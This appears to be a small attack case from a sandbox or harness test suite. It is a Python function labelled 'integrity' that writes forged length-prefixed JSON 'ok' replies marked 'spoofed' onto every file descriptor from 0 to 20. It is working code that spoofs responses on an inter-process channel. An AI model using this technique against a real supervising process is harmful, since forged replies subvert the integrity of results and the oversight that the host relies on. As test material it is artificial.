# desc: replies of its own on every descriptor
# class: integrity
# wins: spoofs
import json
import os
import struct

def attack(state):
    for number in range(21):
        for n in range(40):
            reply = json.dumps({"n": n, "ok": {"value": "spoofed"}}).encode()
            try:
                os.write(number, struct.pack("<I", len(reply)) + reply)
            except OSError:
                pass
    return "spoofed"
